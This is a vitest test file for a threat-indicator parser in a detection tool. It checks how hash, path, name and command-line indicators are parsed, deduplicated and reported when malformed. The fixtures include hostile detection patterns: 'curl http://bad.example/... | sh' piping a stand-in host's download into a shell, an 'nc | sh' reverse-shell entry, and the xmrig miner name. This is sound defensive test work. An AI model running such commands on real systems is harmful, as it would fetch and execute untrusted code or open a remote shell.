// SPDX-License-Identifier: Apache-2.0
// What an indicator file may say, and that a bad one is refused whole with every line named.
import { expect, test } from "vitest";
import { parseIndicators } from "../../../lib/detect/detect.ts";
import { isUndercroftError } from "../../../lib/errors/errors.ts";

const HASH = "ab".repeat(32);

test("every form of line becomes an indicator", () => {
  const text = [
    "\uFEFF# feed of today",
    "",
    `sha256:${HASH.toUpperCase()} | Known dropper | critical`,
    "path:/tmp/with space/x.sh # seen twice",
    "name:xmrig | Miner",
    "cmdline:curl http://bad.example/#frag | sh",
    "cmdline:nc | sh | Reverse shell | low",
    "cd".repeat(32),
  ].join("\r\n");
  const found = parseIndicators(text, "feed.txt");
  expect(found.map(({ kind, value, severity }) => [kind, value, severity])).toEqual([
    ["sha256", HASH, "critical"],
    ["path", "/tmp/with space/x.sh", "high"],
    ["name", "xmrig", "high"],
    ["command-line", "curl http://bad.example/#frag | sh", "high"],
    ["command-line", "nc | sh", "low"],
    ["sha256", "cd".repeat(32), "high"],
  ]);
  expect(found[0]?.title).toBe("Known dropper");
  expect(found[2]?.title).toBe("Miner");
  expect(new Set(found.map(({ id }) => id)).size).toBe(found.length);
});

test("the same indicator twice counts once", () => {
  expect(parseIndicators(`${HASH}\nsha256:${HASH}\n`, "x")).toHaveLength(1);
});

test("all bad lines are named by their place and nothing is used", () => {
  const text = [
    `sha256:${HASH}`,
    "sha256:xyz",
    "path:relative",
    "name:a/b",
    "evil",
    "cmdline:",
    "name:x | T | urgent",
    "__proto__:x",
    "name:a | b | low | more",
  ].join("\n");
  let error: unknown;
  try {
    parseIndicators(text, "list.txt");
  } catch (caught) {
    error = caught;
  }
  if (!isUndercroftError(error)) throw new Error("no operational error");
  expect(error.code).toBe("ERR_UC_INDICATORS");
  expect(error.detail).toMatchObject({ path: "list.txt", line: 2, problems: 8 });
  for (let line = 2; line <= 9; line++) expect(error.message).toContain(`list.txt:${line}: `);
  expect(error.message).not.toContain("list.txt:1:");
});

test("a long list of bad lines is cut in the message, not in the count", () => {
  const text = Array.from({ length: 100 }, () => "nonsense").join("\n");
  expect(() => parseIndicators(text, "x")).toThrow(/^100 bad indicator lines[\s\S]*and 80 more$/);
});
